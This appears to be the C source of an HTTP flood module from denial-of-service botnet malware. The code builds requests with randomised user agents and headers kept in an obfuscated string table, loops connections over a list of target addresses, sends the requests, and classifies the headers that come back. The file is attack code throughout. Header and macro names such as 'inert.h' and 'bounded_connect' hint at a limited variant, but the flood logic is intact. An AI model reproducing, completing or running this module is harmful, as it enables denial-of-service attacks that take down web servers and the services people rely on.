/* HTTP flood: one request, and the reading of its answer's headers. */
#include "attack.h"

#include "inert.h"
#include "table.h"
#include "util.h"

#if HAS_ATTACKS

uint32_t attack_http_seen;

LOCAL void choose_user_agent(char *out)
{
    uint32_t drawn = rand_next() % USER_AGENT_COUNT, index = 0;
#define AGENT(NAME)                                 \
    if (drawn == index++) {                         \
        STRING_OPEN(NAME);                          \
        util_strcpy(out, STRING_GET(NAME, NULL));   \
        STRING_CLOSE(NAME);                         \
    }
    USER_AGENTS(AGENT)
}

static int append(char *out, int at, const char *text)
{
    return at + util_strcpy(out + at, text);
}

#define APPEND(NAME)                                     \
    STRING_OPEN(NAME);                                   \
    at = append(out, at, STRING_GET(NAME, NULL));        \
    STRING_CLOSE(NAME);                                  \
    at = append(out, at, LITERAL(HTTP_LINE));

static int build_request(char *out, const char *method, const char *path, const char *domain,
                         const char *body)
{
    char agent[256];
    int at = 0;
    choose_user_agent(agent);
    at = append(out, at, method);
    out[at++] = ' ';
    at = append(out, at, path);
    at = append(out, at, LITERAL(HTTP_VERSION));
    at = append(out, at, agent);
    at = append(out, at, LITERAL(HTTP_HOST));
    at = append(out, at, domain);
    at = append(out, at, LITERAL(HTTP_LINE));
    APPEND(HTTP_KEEP_ALIVE)
    APPEND(HTTP_ACCEPT)
    APPEND(HTTP_LANGUAGE)
    if (body != NULL) {
        APPEND(HTTP_FORM)
    }
    at = append(out, at, LITERAL(HTTP_LINE));
    if (body != NULL)
        at = append(out, at, body);
    return at;
}

/* Which of the known headers an answer holds, one bit each. */
LOCAL uint32_t classify_answer(const char *answer, int length)
{
    uint32_t seen = 0, bit = 1;
#define HEADER(NAME)                                                       \
    STRING_OPEN(NAME);                                                     \
    if (util_stristr(answer, length, STRING_GET(NAME, NULL)) != -1)        \
        seen |= bit;                                                       \
    STRING_CLOSE(NAME);                                                    \
    bit <<= 1;
    HTTP_HEADERS(HEADER)
    return seen;
}

void attack_app_http(ATTACK_ARGUMENTS)
{
    char *method = TEXT_OPTION(METHOD, LITERAL(HTTP_GET));
    char *domain = TEXT_OPTION(DOMAIN, NULL);
    char *path = TEXT_OPTION(PATH, LITERAL(HTTP_ROOT));
    char *body = TEXT_OPTION(POST_DATA, NULL);
    int connections = INT_OPTION(HTTP, CONNECTIONS);
    port_t destination_port = (port_t)INT_OPTION(HTTP, DESTINATION_PORT);
    uint32_t seen = 0;
    int i;
    if (domain == NULL || util_strlen(domain) > 128 || util_strlen(path) > 256)
        return;
    if (body != NULL && util_strlen(body) > 512)
        return;
    for (i = 0; REPEATING(i < connections) && target_count > 0; i++) {
        struct attack_target *target = &targets[i % target_count];
        char request[2048], answer[1024];
        int length, fd;
        if (TOO_FEW_LEFT(2) || (fd = socket(AF_INET, SOCK_STREAM, 0)) == -1)
            break;
        target->sock_addr.sin_family = AF_INET;
        target->sock_addr.sin_addr.s_addr = attack_draw_address(target);
        target->sock_addr.sin_port = htons(destination_port);
        length = build_request(request, method, path, domain, body);
        if (bounded_connect(fd, &target->sock_addr) != -1) {
            bounded_stream_send(fd, request, length);
            length = (int)recv(fd, answer, sizeof(answer), MSG_NOSIGNAL);
            if (length > 0)
                seen |= classify_answer(answer, length);
        }
        close(fd);
    }
    attack_http_seen = seen;
}

#endif
